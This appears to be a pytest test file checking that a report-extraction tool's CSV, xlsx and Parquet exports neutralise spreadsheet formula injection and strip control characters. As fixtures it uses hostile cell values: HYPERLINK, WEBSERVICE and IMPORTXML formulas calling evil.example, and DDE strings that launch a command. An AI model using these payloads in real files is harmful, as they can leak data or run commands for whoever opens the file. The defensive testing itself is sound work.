"""Hostile inputs through every export format: no text cell ever becomes a formula.

Formula-like values reach the cells by every path there is: the report's file name (report
id, ``source``, ``event_id``), a model answer's places, notes, scenario, weapons, targets and
casualty notes, cargo and destination lists joined into one cell. The end-to-end test runs
``extract`` against the loopback OpenAI-protocol server and ``export`` through the CLI, then
reads every file back: openpyxl for xlsx (no cell has ``data_type`` ``"f"``), the csv module
for CSV (no cell starts with a formula trigger), pyarrow for Parquet (values verbatim). The
property tests generate the text cells with hypothesis.
"""

from __future__ import annotations

import csv
import json
import math
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openai_server import OpenAIServer, Reply
from paths import GOLD_DIR, REPORTS_DIR
from typer.testing import CliRunner

from llm_extract.cli import app
from llm_extract.jsonl import read_results
from llm_extract.reporting.export import TABLE_COLUMNS, TABLES, export_tables
from llm_extract.reporting.sheets import (
    CSV_ESCAPE,
    CSV_TRIGGERS,
    XLSX_MAX_CELL,
    csv_cell,
    write_csv,
    write_parquet,
    write_xlsx,
    xlsx_text,
)
from llm_extract.schemas import strip_controls

KEY = "sk-test-HOSTILE-EXPORT-1a2b3c"
LINK = '=HYPERLINK("http://evil.example/","click")'
# A report file name can hold no "/", so the link in a file name has none either.
FILE_ID = '=HYPERLINK("evil.example","click")'
DDE = "-2+3+cmd|' /C calc'!A0"
HOSTILE = {
    "location": LINK,
    "scenario": "=1+1",
    "weapons": ["\t=1+1", "\r=2+2"],
    "origin": "+SUM(1,1)",
    "destinations": ["@SUM(1+1)*cmd|' /C calc'!A0", "الحسكة"],
    "cargo": [DDE, "معدات عسكرية"],
    "target": '=WEBSERVICE("http://evil.example/?"&A1)',
    "casualty_note": "=1+1",
    "notes": '=IMPORTXML("http://evil.example/","//a")',
}


def hostile_answer() -> dict[str, Any]:
    """The gold answer of month_116 (grounded evidence) with a formula in every text field."""
    answer: dict[str, Any] = json.loads((GOLD_DIR / "month_116.json").read_text("utf-8"))
    convoy = answer["convoys"][0]
    convoy.update(
        origin=HOSTILE["origin"], destinations=HOSTILE["destinations"], cargo=HOSTILE["cargo"]
    )
    drill = answer["drills"][1]
    drill.update(location=HOSTILE["location"], scenario=HOSTILE["scenario"])
    drill["weapons"] = HOSTILE["weapons"]
    strike = answer["strikes"][0]
    strike["targets"] = [{"name": HOSTILE["target"], "count": 1}]
    strike["location"] = "=1+1"
    strike["casualties"] = [{"party": "civilians", "note": HOSTILE["casualty_note"]}]
    answer["arrests"][0].update(location=LINK, notes=HOSTILE["notes"])
    return answer


@pytest.fixture
def hostile_run(
    openai_server: OpenAIServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Path:
    """``extract`` of a report named like a formula, answered with formulas: the JSONL."""
    monkeypatch.setenv("OPENAI_BASE_URL", openai_server.base_url)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.chdir(tmp_path)
    openai_server.default = Reply(hostile_answer())
    report = tmp_path / f"{FILE_ID}.txt"
    report.write_text((REPORTS_DIR / "month_116.txt").read_text("utf-8"), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    done = CliRunner().invoke(app, ["extract", report.name, "-o", str(out), "--no-cache"])
    assert done.exit_code == 0, done.output
    (result,) = read_results(out)
    assert result.report_id == FILE_ID and result.status == "ok"
    assert result.extraction is not None and result.extraction.drills[1].location == LINK
    return out


def export(jsonl: Path, fmt: str, target: Path) -> None:
    done = CliRunner().invoke(app, ["export", str(jsonl), "--format", fmt, "-o", str(target)])
    assert done.exit_code == 0, done.output


def is_inert_csv_cell(cell: str) -> bool:
    """What a spreadsheet can open safely: no formula trigger first, or a plain number."""
    if not cell.startswith(CSV_TRIGGERS):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return cell.lstrip("+-")[:1].isdigit() or cell.lstrip("+-").startswith(".")


def test_xlsx_has_no_formula_and_keeps_every_value(hostile_run: Path, tmp_path: Path) -> None:
    book = tmp_path / "x.xlsx"
    export(hostile_run, "xlsx", book)
    workbook = openpyxl.load_workbook(book)
    try:
        texts: list[str] = []
        numbers: list[object] = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        texts.append(cell.value)
                    elif isinstance(cell.value, int | float):
                        numbers.append(cell.value)
        joined = "\n".join(texts)
        # Every hostile value arrived as the text it was (lists joined into one cell).
        for value in (LINK, FILE_ID, DDE, HOSTILE["notes"], HOSTILE["target"], "=1+1"):
            assert value in joined, value
        assert f"{FILE_ID}-convoys-1-1" in texts  # event_id starts with the report id
        # source: the report file's absolute path, its formula-like name kept as text
        assert any(t.startswith("/") and t.endswith(f"/{FILE_ID}.txt") for t in texts)
        # Numbers stay numbers: vehicles, counts, offsets, months.
        assert 160 in numbers and 116 in numbers
    finally:
        workbook.close()


def test_csv_cells_are_neutralised(hostile_run: Path, tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    folder.mkdir()
    export(hostile_run, "csv", folder)
    files = sorted(folder.glob("*.csv"))
    assert len(files) == len(TABLES)
    seen: list[str] = []
    for file in files:
        with file.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        table = file.stem.removeprefix("out_")
        assert rows[0] == list(TABLE_COLUMNS[table])  # headers, inert too
        for row in rows:
            for cell in row:
                assert is_inert_csv_cell(cell), (file.name, cell)
                seen.append(cell)
    for value in (LINK, FILE_ID, DDE, HOSTILE["notes"], HOSTILE["origin"], "\t=1+1"):
        assert any(cell.startswith(CSV_ESCAPE + value) for cell in seen), value
    assert f"{CSV_ESCAPE}@SUM(1+1)*cmd|' /C calc'!A0 | الحسكة" in seen  # joined list, one cell
    assert f"{CSV_ESCAPE}{DDE} | معدات عسكرية" in seen
    # The report's numbers are still numbers to pandas.
    convoys = pd.read_csv(folder / "out_convoys.csv")
    assert convoys["vehicles"].tolist() == [160, 11]
    assert pd.api.types.is_integer_dtype(convoys["evidence_start"])


def test_parquet_keeps_values_verbatim_in_string_columns(hostile_run: Path, tmp_path: Path) -> None:
    folder = tmp_path / "pq"
    folder.mkdir()
    export(hostile_run, "parquet", folder)
    drills = pq.read_table(folder / "out_drills.parquet")
    assert str(drills.schema.field("location").type) in ("string", "large_string")
    assert LINK in drills.column("location").to_pylist()
    assert str(drills.schema.field("count").type) == "int64"
    events = pq.read_table(folder / "out_events.parquet").to_pydict()
    assert all(e.startswith(FILE_ID) for e in events["event_id"])


# --- numbers stay numbers -------------------------------------------------------------------


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "place": ["-12", "=1+1", "-1+2", "+3.5", "@x"],
            "longitude": [-1.5, -73.98, 2.0, -0.25, 0.0],
            "delta": pd.array([-3, -1, 0, None, 7], dtype="Int64"),
        }
    )
    write_csv(frame, tmp_path / "n.csv")
    back = pd.read_csv(tmp_path / "n.csv", dtype={"place": str})
    assert back["longitude"].tolist() == [-1.5, -73.98, 2.0, -0.25, 0.0]
    assert back["delta"].tolist()[:2] == [-3, -1]
    # A text cell that is a plain number is a number, not a formula; the rest is escaped.
    assert back["place"].tolist() == ["-12", "'=1+1", "'-1+2", "+3.5", "'@x"]
    write_xlsx({"t": frame}, tmp_path / "n.xlsx")
    workbook = openpyxl.load_workbook(tmp_path / "n.xlsx")
    try:
        sheet = workbook["t"]
        assert [c.value for c in sheet["B"][1:]] == [-1.5, -73.98, 2, -0.25, 0]
        assert all(c.data_type == "n" for c in sheet["B"][1:])
        assert [c.value for c in sheet["A"][1:]] == ["-12", "=1+1", "-1+2", "+3.5", "@x"]
        assert all(c.data_type == "s" for c in sheet["A"][1:])
    finally:
        workbook.close()


# --- properties -----------------------------------------------------------------------------

# Text cells as an attacker or a model might write them: formula triggers first often.
TEXT = st.one_of(
    st.text(max_size=40),
    st.builds(lambda t, rest: t + rest, st.sampled_from(CSV_TRIGGERS), st.text(max_size=30)),
    st.sampled_from([LINK, DDE, "=1+1", "-1", "+1", "-", "@", "\t", "\r\n=1", "=", "-.5e3"]),
)


@given(TEXT)
def test_csv_cell_is_inert_and_reversible(text: str) -> None:
    cell = csv_cell(text)
    assert is_inert_csv_cell(cell)
    kept = strip_controls(text)  # NUL, ESC... never reach a CSV file
    assert cell in (kept, CSV_ESCAPE + kept)  # nothing else lost: strip the one quote to undo


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(TEXT, min_size=1, max_size=6))
def test_csv_file_cells_are_inert(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "p.csv"
    write_csv(pd.DataFrame({"text": texts, "n": range(-len(texts), 0)}), path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["text", "n"]
    assert len(rows) == len(texts) + 1  # quoting kept every value in its own cell
    for row, text in zip(rows[1:], texts, strict=True):
        assert is_inert_csv_cell(row[0])
        assert row[0] in (strip_controls(text), CSV_ESCAPE + strip_controls(text))
        assert int(row[1]) < 0


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(TEXT, min_size=1, max_size=5))
def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "p.xlsx"
    numbers = [-(i + 0.5) for i in range(len(texts))]
    write_xlsx({"s": pd.DataFrame({"text": texts, "x": numbers})}, path)
    workbook = openpyxl.load_workbook(path)
    try:
        sheet = workbook["s"]
        for (text_cell, number_cell), text, number in zip(
            sheet.iter_rows(min_row=2), texts, numbers, strict=True
        ):
            assert text_cell.data_type != "f"
            expected = xlsx_text(text).replace("\r\n", "\n").replace("\r", "\n")
            got = "" if text_cell.value is None else str(text_cell.value)
            assert got.replace("\r\n", "\n").replace("\r", "\n") == expected
            if got:
                assert text_cell.data_type == "s"
            assert number_cell.data_type == "n" and math.isclose(number_cell.value, number)
    finally:
        workbook.close()


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(TEXT, min_size=1, max_size=5))
def test_parquet_text_is_verbatim(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "p.parquet"
    write_parquet(pd.DataFrame({"text": texts}), path)
    assert pq.read_table(path).column("text").to_pylist() == texts


def test_export_library_call_with_a_formula_id(tmp_path: Path) -> None:
    """The library path (no CLI): a result whose id and source path are formulas."""
    from review_data import EXTRACTION_B, REPORT_B, make_result

    result = make_result("=1+1", REPORT_B, EXTRACTION_B, tmp_path)
    paths = export_tables([result], "csv", tmp_path / "e.csv", ["events"])
    with paths["events"].open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and all(row["event_id"].startswith("'=1+1-") for row in rows)
    assert all(row["source_report_id"] == "'=1+1" for row in rows)


# --- control characters and cell sizes (issue 19, item 13) -----------------------------------

CONTROLS = "\x00\x01\x1b[31m\x07\x7f"


def test_control_characters_in_a_model_answer_never_reach_a_result_a_table_or_a_page(
    openai_server: OpenAIServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", openai_server.base_url)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    answer: dict[str, Any] = json.loads((GOLD_DIR / "month_116.json").read_text("utf-8"))
    answer["arrests"][0]["notes"] = f"note{CONTROLS}end"
    answer["drills"][1]["weapons"] = [f"gun{CONTROLS}"]
    openai_server.default = Reply(answer)
    out = tmp_path / "out.jsonl"
    report = REPORTS_DIR / "month_116.txt"
    done = CliRunner().invoke(app, ["extract", str(report), "-o", str(out), "--no-cache"])
    assert done.exit_code == 0, done.output
    (result,) = read_results(out)
    assert result.extraction is not None
    assert result.extraction.arrests[0].notes == "note[31mend"
    assert result.extraction.drills[1].weapons == ["gun[31m"]
    export(out, "csv", tmp_path / "t.csv")
    page = tmp_path / "v.html"
    viewed = CliRunner().invoke(app, ["view", str(out), "-o", str(page)])
    assert viewed.exit_code == 0, viewed.output
    written = [*tmp_path.glob("t_*.csv"), page, out]
    assert len(written) > 2
    for path in written:
        data = path.read_bytes()
        assert not any(ch in data for ch in (b"\x00", b"\x01", b"\x1b", b"\x07", b"\x7f")), path


def test_a_csv_cell_drops_control_characters() -> None:
    assert csv_cell("a\x00b\x1bc\td\r\ne") == "abc\td\r\ne"
    assert csv_cell("\x00=1+1") == "'=1+1"


def test_an_xlsx_cell_over_excels_limit_is_cut_with_a_warning(tmp_path: Path) -> None:
    path = tmp_path / "long.xlsx"
    long = "و" * (XLSX_MAX_CELL + 5000)
    warnings: list[str] = []
    frame = pd.DataFrame({"report_id": ["r1", "r2"], "notes": ["short", long]})
    write_xlsx({"arrests": frame}, path, warnings.append)
    workbook = openpyxl.load_workbook(path)
    try:
        cell = workbook["arrests"]["B3"]
        assert cell.value == long[:XLSX_MAX_CELL]
    finally:
        workbook.close()
    assert frame["notes"][1] == long  # the caller's frame is not changed
    (warning,) = warnings
    assert "sheet arrests, row 3, column notes (report r2)" in warning
    assert "37,767 characters cut to 32,767" in warning
